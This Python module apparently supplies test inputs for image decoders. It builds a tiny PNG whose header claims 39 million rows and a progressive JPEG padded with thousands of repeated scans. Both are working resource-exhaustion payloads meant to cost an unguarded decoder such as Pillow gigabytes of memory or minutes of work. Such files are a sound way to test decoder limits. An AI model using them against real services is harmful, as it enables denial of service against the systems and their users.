"""Small files that cost a decoder without limits gigabytes or minutes."""

import io
import struct
import zlib

from PIL import Image

START, END, HUFFMAN_TABLE, SCAN = b"\xff\xd8", b"\xff\xd9", 0xC4, 0xDA


def chunk(name: bytes, data: bytes) -> bytes:
    """A chunk of a PNG."""
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png_that_claims(width: int, height: int, rows: bytes = zlib.compress(b"\0" * 100)) -> bytes:
    """A PNG of this size by its header."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def tall_png(height: int = 39_000_000) -> bytes:
    """A valid PNG one pixel wide, of 100 kB. Pillow keeps a pointer and a padded row for each pixel."""
    packer, rows = zlib.compressobj(9), b"\0\0\0\0" * 1_000_000
    packed = b"".join(packer.compress(rows) for _ in range(height // 1_000_000)) + packer.flush()
    return png_that_claims(1, height, packed)


def jpeg_of_many_scans(side: int = 7000, size: int = 2_000_000) -> bytes:
    """A progressive JPEG with 40,000 scans over all of its pixels, of fifty bytes each."""
    out = io.BytesIO()
    Image.new("RGB", (side, side), (9, 99, 199)).save(out, "JPEG", progressive=True)
    whole = out.getvalue()
    scan = min(_scans(whole), key=len)
    return whole.removesuffix(END) + scan * (size // len(scan)) + END


def _scans(jpeg: bytes) -> list[bytes]:
    """The scans of a JPEG that come with a Huffman table of their own, with it."""
    found, place, table = [], len(START), -1
    while not jpeg.startswith(END, place):
        kind, end = jpeg[place + 1], place + 2 + int.from_bytes(jpeg[place + 2 : place + 4], "big")
        if kind == SCAN:
            while jpeg[end] != 0xFF or jpeg[end + 1] == 0:
                end += 1
            if table >= 0:
                found.append(jpeg[table:end])
        table = place if kind == HUFFMAN_TABLE else -1
        place = end
    return found
